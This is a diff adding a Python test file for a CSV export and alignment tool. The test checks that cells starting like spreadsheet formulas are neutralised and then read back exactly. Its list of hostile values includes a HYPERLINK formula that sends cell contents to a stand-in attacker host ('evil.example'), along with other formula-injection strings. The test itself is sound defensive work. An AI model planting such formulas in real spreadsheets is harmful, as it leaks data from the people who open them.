@@ -1,0 +1,79 @@
+"""`annotate export` neutralises spreadsheet formulas in the cells people open (OWASP CSV injection) and
+`align` reads the neutralised cells back to the same ids (issue 18 item 3)."""
+
+from __future__ import annotations
+
+import csv
+import json
+import sys
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).parent / "fixtures" / "alignment"))
+from builders import make_run  # noqa: E402
+
+from wikihowagent.alignment.core import compute  # noqa: E402
+from wikihowagent.alignment.export import export_sheet  # noqa: E402
+from wikihowagent.alignment.problems import Problems  # noqa: E402
+
+DANGER = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)", "+1+1", "-2+3", "\tcmd", "\r=1",
+           "'=already quoted", "plain title"]
+
+
+def hostile_runs(root: Path) -> list[Path]:
+    """Two runs whose names, conversation ids, tutorial ids and titles start like formulas."""
+    tids = ["=a", "+b", "-c", "@d", "\te", "f", "'=g", "h"]
+    paths = []
+    for run in ("=run", "@run2"):
+        make_run(root, run, tids, teacher="x", learner="y")
+        d = root / run
+        for name in ("conversations.jsonl", "scores.jsonl"):
+            recs = [json.loads(line) for line in (d / name).read_text().splitlines()]
+            for rec, title in zip(recs, HOSTILE):
+                rec["title"] = title
+            (d / name).write_text("".join(json.dumps(r) + "\n" for r in recs))
+        paths.append(d)
+    return paths
+
+
+def cells(path: Path) -> list[list[str]]:
+    with open(path, newline="", encoding="utf-8") as fh:
+        return list(csv.reader(fh))
+
+
+def test_neutralise_is_exactly_undone():
+    from wikihowagent.alignment.tables import neutralise, unneutralise
+
+    for s in [*HOSTILE, "", "'", "''", "'x", "''=x", "=", "-1", "a=b"]:
+        n = neutralise(s)
+        assert not n.startswith(DANGER) and unneutralise(n) == s, s
+    assert neutralise("=1+1") == "'=1+1" and neutralise("plain") == "plain"
+
+
+def test_sheet_and_key_cells_never_start_a_formula_and_read_back(tmp_path):
+    runs = hostile_runs(tmp_path / "runs")
+    for blind in (True, False):
+        out = tmp_path / ("blind" if blind else "plain") / "sheet.csv"
+        sel, sheet, _ = export_sheet(runs, out, Problems(), n=8, blind=blind)
+        files = [sheet, *([out.with_name("sheet.key.csv")] if blind else [])]
+        for f in files:
+            rows = cells(f)
+            assert len(rows) == 17
+            for row in rows:
+                for c in row:
+                    assert not c.startswith(DANGER), (f.name, c)
+        text = "".join(f.read_text(encoding="utf-8") for f in files)
+        assert "'=HYPERLINK(" in text and "'@SUM(1+1)" in text and "''=already quoted" in text
+        if not blind:
+            assert "'=run-=a" in text and ",'+b\n" in text  # ids and tutorial ids too
+        # a judge fills the sheet in; align maps every row back to its conversation
+        rows = cells(sheet)
+        for r in rows[1:]:
+            r[3:11] = ["4"] * 8
+        judge = out.with_name("alice.csv")
+        with open(judge, "w", newline="", encoding="utf-8") as fh:
+            csv.writer(fh).writerows(rows)
+        real = sorted(c.conversation_id for c in sel.conversations)
+        assert any(cid.startswith("=") for cid in real) and any(cid.startswith("@") for cid in real)
+        res = compute([judge], [], n_boot=0, problems=Problems(), runs_dir=tmp_path / "runs")
+        assert sorted(res.ids) == real and res.matched.all()
